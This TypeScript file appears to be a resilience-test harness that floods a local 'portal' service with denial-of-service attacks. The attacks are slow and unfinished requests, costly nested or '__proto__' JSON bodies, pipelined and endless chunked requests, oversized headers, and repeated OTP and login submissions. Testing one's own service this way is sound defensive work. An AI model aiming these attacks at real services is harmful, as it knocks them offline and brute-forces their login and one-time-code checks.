import { connect, type Socket } from 'node:net';

/** What an attack works with. It has no account. */
export interface Target {
  /** Opens a connection that is opened again when the portal has closed it. `act` is called each time. */
  open(act: (socket: Socket) => void): void;
  /** Calls a function again and again, until the attack ends. */
  every(ms: number, act: () => void): void;
}

/** What is done to the portal: `size` is the number of connections. */
export type Attack = (target: Target, size: number) => void;

const head = (path: string, headers: string) =>
  `POST /api${path} HTTP/1.1\r\nHost: portal\r\nContent-Type: application/json\r\n${headers}\r\n\r\n`;
const withBody = (path: string, body: string) => head(path, `Content-Length: ${body.length}`) + body;
const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: portal\r\n${headers}\r\n`;
const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;
const kB = 1024;

const unfinished =
  (path: string, bytes: number): Attack =>
  ({ open }, size) => {
    const start = head(path, `Content-Length: ${bytes}`) + ' '.repeat(bytes - 1);
    for (let n = 0; n < size; n += 1) open((socket) => socket.write(start));
  };

/** On each connection the next body is sent as soon as there is a response. */
const repeated =
  (path: string, bodies: string[]): Attack =>
  ({ open }, size) => {
    const requests = bodies.map((body) => Buffer.from(withBody(path, body)));
    for (let n = 0; n < size / 10; n += 1) {
      open((socket) => {
        let sent = n;
        const send = () => socket.write(requests[sent++ % requests.length] ?? '');
        socket.on('data', send);
        send();
      });
    }
  };

const nested = (bytes: number) => '['.repeat(bytes / 2) + ']'.repeat(bytes / 2);
const costly = (bytes: number) => [
  nested(bytes),
  '{"a":'.repeat(bytes / 6) + 1 + '}'.repeat(bytes / 6),
  `{"submit_data":[${'{},'.repeat(bytes / 4)}{}]}`,
  `{${Array.from({ length: bytes / 14 }, (_, n) => `"k${n}":1`).join(',')}}`,
  `{${'"__proto__":{},'.repeat(bytes / 16)}"a":1}`,
  `{"mobile":${'1'.repeat(bytes - 20)}}`,
  `{"mobile":"${'\\u0d05'.repeat(bytes / 7)}"}`,
];

const pipelinedRequests = [
  get('/'),
  get('/nowhere.js'),
  get('/api/nowhere'),
  get('/api/Auth/academic_levels'),
  get(`/media/${'x'.repeat(60)}/hash/video.mp4`),
  'OPTIONS /api/Auth/login HTTP/1.1\r\nHost: portal\r\n\r\n',
  withBody('/Student/subjects', '{}'),
  withBody('/Auth/login', '{"mobile":'),
  `${head('/Auth/login', 'Transfer-Encoding: chunked')}2\r\n{}\r\n0\r\n\r\n`,
  'GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n',
];

/** Everything that somebody without an account can send to use up memory or time. */
export const attacks: Record<string, Attack> = {
  'no attack': () => {},
  'unfinished, 1 MB': unfinished('/Auth/login', kB * kB),
  'unfinished, 16 kB': unfinished('/Auth/login', 16 * kB),
  'unfinished, 512 kB, without a session': unfinished('/Student/submit_quiz', 512 * kB),
  'costly, 800 kB': repeated('/Auth/login', costly(800 * kB)),
  'costly, 15 kB': repeated('/Auth/login', costly(15 * kB)),
  pipelined: ({ open }, size) => {
    for (let n = 0; n < size / 10; n += 1) {
      const request = pipelinedRequests[n % pipelinedRequests.length] ?? '';
      open((socket) => {
        socket.resume();
        socket.write(request.repeat(5_000));
      });
    }
  },
  'pipelined, nothing is read': ({ open }, size) => {
    for (let n = 0; n < size; n += 1) open((socket) => socket.pause().write(get('/').repeat(2_000)));
  },
  'byte by byte': ({ open, every }, size) => {
    const sockets = new Set<Socket>();
    for (let n = 0; n < size; n += 1) {
      open((socket) => {
        const isChunked = n % 2 === 0;
        socket.write(head('/Auth/login', isChunked ? 'Transfer-Encoding: chunked' : 'Content-Length: 16000'));
        sockets.add(socket.once('close', () => sockets.delete(socket)));
      });
    }
    let turn = 0;
    every(100, () => {
      turn += 1;
      for (const socket of sockets) socket.write(turn % 2 === 0 ? '1\r\n \r\n' : ' ');
    });
  },
  'endless chunks': ({ open }, size) => {
    const parts = [chunk(' ').repeat(3_000), chunk(' '.repeat(16 * kB)), `1;${'x'.repeat(8 * kB)}\r\n \r\n`];
    for (let n = 0; n < size / 10; n += 1) {
      open((socket) => {
        const send = () => {
          while (!socket.destroyed && socket.write(parts[n % parts.length] ?? ''));
        };
        socket.on('drain', send).resume();
        socket.write(head(n % 2 === 0 ? '/Auth/login' : '/nowhere', 'Transfer-Encoding: chunked'));
        send();
      });
    }
  },
  'headers only': ({ open }, size) => {
    const more = `X: ${'x'.repeat(12 * kB)}`;
    for (let n = 0; n < size; n += 1) {
      open((socket) =>
        socket.write(n % 2 === 0 ? get('/', more) : head('/Auth/login', `${more}\r\nContent-Length: 100`)),
      );
    }
  },
  'wrong OTPs': repeated('/Auth/verifyOTP', [JSON.stringify({ otp_ref: 'none', otp: '1234' })]),
  login: repeated('/Auth/login', [JSON.stringify({ mobile: '9876500000', phone_code: '91', device_id: 'web' })]),
};

/** Opens connections to a port, and opens each again half a second after it was closed. */
export function targetAt(port: number): Target {
  const open: Target['open'] = (act) => {
    const socket = connect(port, '127.0.0.1', () => act(socket)).setNoDelay();
    // The portal may close a connection at any time.
    socket.on('error', () => {});
    socket.on('data', () => {});
    socket.once('close', () => setTimeout(open, 500, act));
  };
  return { open, every: (ms, act) => void setInterval(act, ms) };
}
